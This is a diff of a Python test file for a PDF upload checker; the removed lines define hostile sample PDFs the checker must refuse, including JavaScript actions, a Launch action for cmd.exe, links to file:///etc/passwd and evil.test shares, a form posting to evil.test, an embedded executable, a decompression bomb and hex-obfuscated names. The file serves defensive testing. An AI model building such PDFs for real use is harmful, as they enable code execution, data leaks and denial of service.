@@ -1,14 +1,11 @@
-"""What a PDF may and may not contain to be kept (rules.md 6.4), and what is left of it."""
+"""Which PDFs are kept (rules.md 6.1, 6.4), and what is left of them."""
 
 from __future__ import annotations
 
 import random
 import re
-import zlib
-from collections.abc import Callable
 from decimal import Decimal
 from io import BytesIO
-from typing import Any
 
 import pikepdf
 import pypdf
@@ -20,172 +17,7 @@ from reportlab.pdfgen.canvas import Canvas  # type: ignore[import-untyped]
 
 from shared_code.adapters.upload_check import check, pdf
 from shared_code.adapters.upload_check.verdict import SENTENCES, RefusedError
-
-Change = Callable[[Pdf, pikepdf.Page], None]
-SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
-
-
-def made(change: Change, pages: int = 1, **settings: Any) -> bytes:
-    """A PDF of blank pages; `change` is handed the document and its first page."""
-    target = BytesIO()
-    with pikepdf.new() as document:
-        for _ in range(pages):
-            document.add_blank_page()
-        document.Root.Outlines = document.make_indirect(Dictionary(Type=Name.Outlines, Count=0))
-        change(document, document.pages[0])
-        document.save(target, **settings)
-    return target.getvalue()
-
-
-def plain(document: Pdf, page: pikepdf.Page) -> None:
-    page.Contents = document.make_stream(b"0 0 m 10 10 l S")
-
-
-def root(**entries: object) -> Change:
-    """A change that sets entries of the document's catalogue."""
-
-    def change(document: Pdf, _: pikepdf.Page) -> None:
-        for key, value in entries.items():
-            document.Root[f"/{key}"] = value
-
-    return change
-
-
-def annotation(**entries: Any) -> Change:
-    """A change that puts one annotation on the page."""
-
-    def change(_: Pdf, page: pikepdf.Page) -> None:
-        page.Annots = Array([Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)])
-
-    return change
-
-
-def action(**entries: Any) -> Change:
-    return annotation(Subtype=Name.Link, A=Dictionary(**entries))
-
-
-def link(target: str) -> Change:
-    return action(S=Name.URI, URI=String(target))
-
-
-def stream(**entries: Any) -> Change:
-    """A change that hangs a stream with these entries among the page's XObjects."""
-
-    def change(document: Pdf, page: pikepdf.Page) -> None:
-        made_stream = document.make_stream(b"", Type=Name.XObject, **entries)
-        page.Resources = Dictionary(XObject=Dictionary(X0=made_stream))
-
-    return change
-
-
-def font(**entries: Any) -> Change:
-    def change(_: Pdf, page: pikepdf.Page) -> None:
-        page.Resources = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, **entries)))
-
-    return change
-
-
-def image(width: int, height: int, depth: int) -> Change:
-    return stream(Subtype=Name.Image, Width=width, Height=height, BitsPerComponent=depth, ColorSpace=Name.DeviceGray)
-
-
-def attachment(document: Pdf, _: pikepdf.Page) -> None:
-    document.attachments["tool.exe"] = b"MZ"
-
-
-def content_bomb(document: Pdf, page: pikepdf.Page) -> None:
-    packer = zlib.compressobj()
-    packed = b"".join([packer.compress(bytes(1 << 20)) for _ in range(201)]) + packer.flush()
-    bomb = document.make_stream(b"")
-    bomb.write(packed, filter=Name.FlateDecode)
-    page.Resources = Dictionary(XObject=Dictionary(X0=bomb))
-
-
-FILE = Dictionary(Type=Name.Filespec, F=String("other.pdf"))
-UNC = String(r"\\evil.test\share\x")
-
-HOSTILE: dict[str, tuple[str, Change]] = {
-    "script among names": (
-        "PDF_JAVASCRIPT",
-        root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT])))),
-    ),
-    "script on opening": ("PDF_JAVASCRIPT", root(OpenAction=SCRIPT)),
-    "script on closing": ("PDF_JAVASCRIPT", root(AA=Dictionary(WC=SCRIPT))),
-    "script on an annotation": ("PDF_JAVASCRIPT", annotation(Subtype=Name.Link, A=SCRIPT)),
-    "script of a field": (
-        "PDF_JAVASCRIPT",
-        root(AcroForm=Dictionary(Fields=Array([Dictionary(FT=Name.Tx, AA=Dictionary(K=SCRIPT))]))),
-    ),
-    "script as the next action": ("PDF_JAVASCRIPT", action(S=Name.Named, N=Name.NextPage, Next=Array([SCRIPT]))),
-    "script after the action, named as text": (
-        "PDF_UNKNOWN_ACTION",
-        action(S=Name.GoTo, Next=Dictionary(S=String("JavaScript"))),
-    ),
-    "script under no known key": ("PDF_JAVASCRIPT", root(Whatever=Array([Array([Dictionary(S=Name.JavaScript)])]))),
-    "script in a link": ("PDF_EXTERNAL_REFERENCE", link("javascript:alert(1)")),
-    "program": ("PDF_LAUNCH", root(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
-    "program on a server": ("PDF_LAUNCH", action(S=Name.Launch, F=Dictionary(F=UNC))),
-    "attachment": ("PDF_EMBEDDED_FILE", attachment),
-    "attachment on the page": ("PDF_EMBEDDED_FILE", annotation(Subtype=Name.FileAttachment)),
-    "portfolio": ("PDF_EMBEDDED_FILE", root(Collection=Dictionary(View=Name.D))),
-    "jump into an attachment": ("PDF_EMBEDDED_FILE", action(S=Name.GoToE, T=Dictionary(R=Name.C))),
-    "form that sends": ("PDF_FORM_SUBMISSION", action(S=Name.SubmitForm, F=String("https://evil.test"))),
-    "form that fetches": ("PDF_FORM_SUBMISSION", action(S=Name.ImportData, F=FILE)),
-    "XFA": ("PDF_XFA", root(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>")))),
-    "rich media": ("PDF_RICH_MEDIA", annotation(Subtype=Name.RichMedia)),
-    "3D": ("PDF_RICH_MEDIA", annotation(Subtype=Name("/3D"))),
-    "movie": ("PDF_RICH_MEDIA", annotation(Subtype=Name.Movie, Movie=Dictionary(F=String("m.avi")))),
-    "sound": ("PDF_RICH_MEDIA", annotation(Subtype=Name.Sound)),
-    "sound on clicking": ("PDF_RICH_MEDIA", action(S=Name.Sound)),
-    "screen": ("PDF_RICH_MEDIA", annotation(Subtype=Name.Screen)),
-    "rendition": ("PDF_RICH_MEDIA", action(S=Name.Rendition, OP=0)),
-    "jump to another file": ("PDF_EXTERNAL_REFERENCE", action(S=Name.GoToR, F=FILE, D=Array([0, Name.Fit]))),
-    "jump to a server": ("PDF_EXTERNAL_REFERENCE", action(S=Name.GoToR, F=UNC)),
-    "thread of another file": ("PDF_EXTERNAL_REFERENCE", action(S=Name.Thread, F=UNC, D=0)),
-    "link to a file": ("PDF_EXTERNAL_REFERENCE", link("file:///etc/passwd")),
-    "link to a share": ("PDF_EXTERNAL_REFERENCE", link(r"\\evil.test\share")),
-    "link to a share dressed as web": ("PDF_EXTERNAL_REFERENCE", link(r"http:\\evil.test\share")),
-    "base of links": ("PDF_EXTERNAL_REFERENCE", root(URI=Dictionary(Base=String("file://evil.test/")))),
-    "stream elsewhere": ("PDF_EXTERNAL_REFERENCE", stream(F=FILE, Subtype=Name.Form)),
-    "stream on a server": ("PDF_EXTERNAL_REFERENCE", stream(F=UNC)),
-    "page of another file": ("PDF_EXTERNAL_REFERENCE", stream(Subtype=Name.Form, Ref=Dictionary(F=FILE, Page=0))),
-    "action nobody knows": ("PDF_UNKNOWN_ACTION", root(OpenAction=Dictionary(S=Name.Explode))),
-    "menu command": ("PDF_UNKNOWN_ACTION", action(S=Name.Named, N=Name.SaveAs)),
-    "code in a font matrix": ("PDF_DAMAGED", font(FontMatrix=Array([1, 0, 0, 1, 0, String("0); alert(1)")]))),
-    "font widths of another kind": ("PDF_DAMAGED", font(Widths=String("1 2 3"))),
-    "picture of 900 megapixels": ("FILE_TOO_COMPLEX", image(30_000, 30_000, 8)),
-}
-
-
-@pytest.mark.parametrize(("reason", "change"), HOSTILE.values(), ids=HOSTILE)
-@pytest.mark.parametrize("hidden", [False, True], ids=["plain", "in object streams"])
-def test_a_pdf_that_can_do_more_than_be_read_is_refused(reason: str, change: Change, hidden: bool) -> None:
-    mode = pikepdf.ObjectStreamMode.generate if hidden else pikepdf.ObjectStreamMode.disable
-    with pytest.raises(RefusedError) as refused:
-        pdf.clean(made(change, object_stream_mode=mode))
-    assert refused.value.reason == reason
-
-
-def test_a_script_is_found_though_its_name_stands_nowhere_in_the_file() -> None:
-    content = made(root(OpenAction=SCRIPT), object_stream_mode=pikepdf.ObjectStreamMode.generate)
-    assert b"JavaScript" not in content
-    assert check(content, "application/pdf").reason == "PDF_JAVASCRIPT"
-
-
-def test_a_stream_that_unpacks_to_201_megabytes_is_refused() -> None:
-    assert check(made(content_bomb), "application/pdf").reason == "FILE_TOO_COMPLEX"
-
-
-def test_a_name_written_in_hexadecimal_is_the_same_name() -> None:
-    content = made(root(OpenAction=SCRIPT)).replace(b"/S /JavaScript", b"/S /J#61vaScript")
-    assert b"#61" in content
-    assert check(content, "application/pdf").reason == "PDF_JAVASCRIPT"
-
-
-def test_encryption_is_refused_also_where_everybody_may_read() -> None:
-    for user in ("", "secret"):
-        content = made(plain, encryption=pikepdf.Encryption(owner="owner", user=user))
-        assert check(content, "application/pdf").reason == "PDF_ENCRYPTED"
+from tests.adapters.upload_check_pdfs import Change, action, font, image, link, made, plain, root
 
 
 def test_200_pages_are_taken_and_201_are_not() -> None:
